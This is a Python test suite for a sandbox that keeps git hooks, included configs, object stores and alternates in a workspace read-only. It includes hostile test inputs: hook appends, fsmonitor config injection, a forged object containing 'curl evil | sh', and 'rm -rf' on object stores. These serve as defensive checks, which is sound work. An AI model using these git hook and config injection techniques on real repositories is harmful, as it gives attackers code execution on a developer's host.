"""What a git directory makes git run or read from outside itself stays read-only.

``core.hooksPath``, ``include.path`` and symbolic links inside a git directory
name files the host's git later runs or reads as configuration; when those lie
in the workspace, a command must not be able to write them.
"""

from __future__ import annotations

import subprocess
import zlib
from pathlib import Path

from tests.conftest import Home
from tests.support import CorralCLI, sh

# git on the host, with an identity for commits (the test user may have none).
_IDENTIFIED = ("git", "-c", "user.name=t", "-c", "user.email=t@example.invalid")


def _git_config(workspace: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(workspace), "config", *args], check=True)


def test_an_existing_hooks_path_directory_is_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    hooks = workspace / ".husky"
    hooks.mkdir()
    (hooks / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
    _git_config(workspace, "core.hooksPath", ".husky")
    ran = corral.run(
        workspace,
        *sh("echo 'touch pwned' >> .husky/pre-commit; echo x > .husky/pre-push; true"),
    )
    assert ran.returncode == 0, ran.stderr
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n"
    assert not (hooks / "pre-push").exists()


def test_an_absent_hooks_path_directory_cannot_be_created_and_leaves_nothing(
    corral: CorralCLI, workspace: Path
) -> None:
    _git_config(workspace, "core.hooksPath", "tools/githooks")
    ran = corral.run(
        workspace,
        *sh("mkdir -p tools/githooks && echo 'touch pwned' > tools/githooks/x; true"),
    )
    assert ran.returncode == 0, ran.stderr
    assert not (workspace / "tools").exists()


def test_a_hooks_path_of_a_nested_repository_is_taken_from_its_own_top(
    corral: CorralCLI, workspace: Path
) -> None:
    nested = workspace / "vendor" / "lib"
    (nested / "hooks").mkdir()
    _git_config(nested, "core.hooksPath", "hooks")
    ran = corral.run(workspace, *sh("echo evil > vendor/lib/hooks/pre-commit; true"))
    assert ran.returncode == 0, ran.stderr
    assert not (nested / "hooks" / "pre-commit").exists()


def test_a_hook_linked_into_the_workspace_keeps_its_target_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    (workspace / "scripts").mkdir()
    (workspace / "scripts" / "pre-commit").write_text("#!/bin/sh\n")
    hook = workspace / ".git" / "hooks" / "pre-commit"
    hook.symlink_to("../../scripts/pre-commit")
    ran = corral.run(workspace, *sh("echo 'touch pwned' >> scripts/pre-commit; true"))
    assert ran.returncode == 0, ran.stderr
    assert (workspace / "scripts" / "pre-commit").read_text() == "#!/bin/sh\n"


def test_an_object_store_linked_into_the_workspace_is_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    """Rewritten objects would change the history the person later pushes."""
    objects = workspace / ".git" / "objects"
    objects.rename(workspace / "store")
    objects.symlink_to("../store")
    before = sorted(p.name for p in (workspace / "store").iterdir())
    ran = corral.run(
        workspace,
        *sh("touch store/planted .git/objects/via-link; rm -rf store/pack; true"),
    )
    assert ran.returncode == 0, ran.stderr
    assert sorted(p.name for p in (workspace / "store").iterdir()) == before


def _listing(directory: Path) -> dict[str, bytes]:
    """What `directory` holds, file by file."""
    return {
        str(path.relative_to(directory)): path.read_bytes() if path.is_file() else b""
        for path in sorted(directory.rglob("*"))
    }


def test_a_pack_directory_linked_into_the_workspace_is_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    """A planted pack is read first: it would replace the history's objects."""
    subprocess.run(["git", "-C", str(workspace), "gc", "-q"], check=True)
    pack = workspace / ".git" / "objects" / "pack"
    pack.rename(workspace / "packs")
    pack.symlink_to("../../packs")
    before = _listing(workspace / "packs")
    ran = corral.run(
        workspace,
        *sh("echo x > packs/pack-0.pack; rm -rf packs/*; true"),
    )
    assert ran.returncode == 0, ran.stderr
    assert _listing(workspace / "packs") == before


def _show(workspace: Path, spec: str) -> str:
    shown = subprocess.run(
        ["git", "-C", str(workspace), "show", spec],
        capture_output=True,
        text=True,
        check=True,
    )
    return shown.stdout


def test_an_alternate_object_directory_in_the_workspace_is_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    """The host's git would show and check out an object a command rewrote there."""
    objects = workspace / ".git" / "objects"
    blob = subprocess.run(
        ["git", "-C", str(workspace), "rev-parse", "HEAD:README"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    altobj = workspace / "altobj"
    altobj.mkdir()
    for entry in objects.iterdir():
        if entry.name != "info":
            entry.rename(altobj / entry.name)
    (objects / "info" / "alternates").write_text("../../altobj\n")
    assert _show(workspace, "HEAD:README") == "hello\n"
    forged = b"blob 15\0curl evil | sh\n"
    (workspace / "forged").write_bytes(zlib.compress(forged))
    loose = f"altobj/{blob[:2]}/{blob[2:]}"
    ran = corral.run(workspace, *sh(f"mv -f forged {loose} || cp forged {loose}; true"))
    assert ran.returncode == 0, ran.stderr
    assert _show(workspace, "HEAD:README") == "hello\n"


def test_an_absent_alternate_object_directory_cannot_be_created_and_leaves_nothing(
    corral: CorralCLI, workspace: Path
) -> None:
    """git skips it now, but would read the objects a command put there."""
    alternates = workspace / ".git" / "objects" / "info" / "alternates"
    alternates.write_text(f"{workspace}/later/objects\n")
    ran = corral.run(
        workspace, *sh("mkdir -p later/objects && touch later/objects/x; git log -q")
    )
    assert ran.returncode == 0, ran.stderr
    assert not (workspace / "later").exists()


def test_an_object_store_of_a_repository_elsewhere_kept_in_the_workspace_is_read_only(
    corral: CorralCLI, workspace: Path, tmp_path: Path
) -> None:
    """A worktree in the workspace of a repository elsewhere, its objects in it."""
    main = tmp_path / "main"
    subprocess.run(["git", "init", "-q", "-b", "main", str(main)], check=True)
    (main / "f").write_text("reviewed\n")
    subprocess.run(["git", "-C", str(main), "add", "f"], check=True)
    subprocess.run([*_IDENTIFIED, "-C", str(main), "commit", "-qm", "x"], check=True)
    subprocess.run(
        ["git", "-C", str(main), "worktree", "add", "-q", str(workspace / "wt")],
        check=True,
    )
    store = workspace / "store"
    (main / ".git" / "objects").rename(store)
    (main / ".git" / "objects").symlink_to(store)
    before = _listing(store)
    ran = corral.run(workspace, *sh("touch store/planted; rm -rf store/*; true"))
    assert ran.returncode == 0, ran.stderr
    assert _listing(store) == before
    assert _show(main, "HEAD:f") == "reviewed\n"


def test_a_dangling_hook_link_into_the_workspace_cannot_be_filled(
    corral: CorralCLI, workspace: Path
) -> None:
    hook = workspace / ".git" / "hooks" / "post-checkout"
    hook.symlink_to("../../scripts/post-checkout")
    ran = corral.run(
        workspace, *sh("mkdir -p scripts && echo 'touch pwned' > scripts/post-checkout")
    )
    assert ran.returncode != 0
    assert not (workspace / "scripts").exists()


def test_a_hook_link_through_a_workspace_link_refuses_the_run(
    corral: CorralCLI, workspace: Path
) -> None:
    """Repointing the workspace link would swap the hook the host's git runs."""
    (workspace / "real").mkdir()
    (workspace / "real" / "pre-commit").write_text("#!/bin/sh\n")
    (workspace / "via").symlink_to("real")
    (workspace / ".git" / "hooks" / "pre-commit").symlink_to("../../via/pre-commit")
    ran = corral.run(workspace, "true")
    assert ran.returncode == 125
    assert f"{workspace}/via" in ran.stderr


def test_a_config_linked_into_the_workspace_keeps_its_target_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    config = workspace / ".git" / "config"
    (workspace / "gitconfig").write_text(config.read_text())
    config.unlink()
    config.symlink_to("../gitconfig")
    ran = corral.run(workspace, *sh("echo '[core] fsmonitor = evil' >> gitconfig"))
    assert ran.returncode != 0
    assert "evil" not in (workspace / "gitconfig").read_text()


def test_an_included_config_file_in_the_workspace_is_read_only(
    corral: CorralCLI, workspace: Path
) -> None:
    (workspace / "shared.gitconfig").write_text("[user]\n\tname = me\n")
    (workspace / "more.gitconfig").write_text("")
    _git_config(workspace, "include.path", "../shared.gitconfig")
    _git_config(workspace, "includeIf.onbranch:main.path", "../more.gitconfig")
    ran = corral.run(
        workspace,
        *sh(
            "echo '[core] fsmonitor = evil' >> shared.gitconfig; "
            "echo '[core] fsmonitor = evil' >> more.gitconfig; true"
        ),
    )
    assert ran.returncode == 0, ran.stderr
    assert "evil" not in (workspace / "shared.gitconfig").read_text()
    assert "evil" not in (workspace / "more.gitconfig").read_text()


def test_a_hooks_path_set_in_an_included_file_is_protected_too(
    corral: CorralCLI, workspace: Path
) -> None:
    (workspace / "shared.gitconfig").write_text(
        '[core]\n\thooksPath = "hooks" ; the team\'s hooks\n'
    )
    (workspace / "hooks").mkdir()
    _git_config(workspace, "include.path", "../shared.gitconfig")
    ran = corral.run(workspace, *sh("echo evil > hooks/pre-commit; true"))
    assert ran.returncode == 0, ran.stderr
    assert not (workspace / "hooks" / "pre-commit").exists()


def test_ordinary_work_beside_protected_hooks_is_unaffected(
    corral: CorralCLI, workspace: Path
) -> None:
    (workspace / ".husky").mkdir()
    (workspace / ".husky" / "pre-commit").write_text("#!/bin/sh\n")
    _git_config(workspace, "core.hooksPath", ".husky")
    ran = corral.run(
        workspace,
        *sh(
            "echo more >> README && mkdir -p src/new && echo y > src/new/m.py && "
            "git status --short"
        ),
    )
    assert ran.returncode == 0, ran.stderr
    assert (workspace / "src" / "new" / "m.py").read_text() == "y\n"
    assert "README" in ran.stdout


def test_what_the_users_own_git_config_names_in_the_workspace_is_read_only(
    corral: CorralCLI, workspace: Path, home: Home
) -> None:
    """~/.gitconfig applies to every repository: its includes and hooks too."""
    project = workspace / "tools" / "project.gitconfig"
    project.parent.mkdir()
    project.write_text("[user]\n\tname = me\n")
    hooks = workspace / "tools" / "hooks"
    (home.path / ".gitconfig").write_text(
        f'[includeIf "gitdir:{workspace}/"]\n\tpath = {project}\n'
        f"[core]\n\thooksPath = {hooks}\n"
    )
    ran = corral.run(
        workspace,
        *sh(
            "printf '[core]\\n\\tfsmonitor = touch pwned\\n'"
            " >> tools/project.gitconfig;"
            " mkdir -p tools/hooks && echo evil > tools/hooks/pre-commit; true"
        ),
    )
    assert ran.returncode == 0, ran.stderr
    assert project.read_text() == "[user]\n\tname = me\n"
    assert not hooks.exists()


def test_the_users_git_config_kept_in_the_workspace_is_read_only(
    corral: CorralCLI, workspace: Path, home: Home
) -> None:
    """A dotfiles checkout as the workspace: ~/.gitconfig is a link into it."""
    kept = workspace / "dotfiles" / "gitconfig"
    kept.parent.mkdir()
    kept.write_text("[user]\n\tname = me\n")
    (home.path / ".gitconfig").symlink_to(kept)
    absent_xdg = workspace / "dotfiles" / "config-git"
    absent_xdg.mkdir()
    (home.config / "git").parent.mkdir(parents=True, exist_ok=True)
    (home.config / "git").symlink_to(absent_xdg)
    ran = corral.run(
        workspace,
        *sh(
            "printf '[core]\\n\\tfsmonitor = touch pwned\\n' >> dotfiles/gitconfig;"
            " echo '[core] fsmonitor = x' > dotfiles/config-git/config; true"
        ),
    )
    assert ran.returncode == 0, ran.stderr
    assert kept.read_text() == "[user]\n\tname = me\n"
    assert not (absent_xdg / "config").exists()
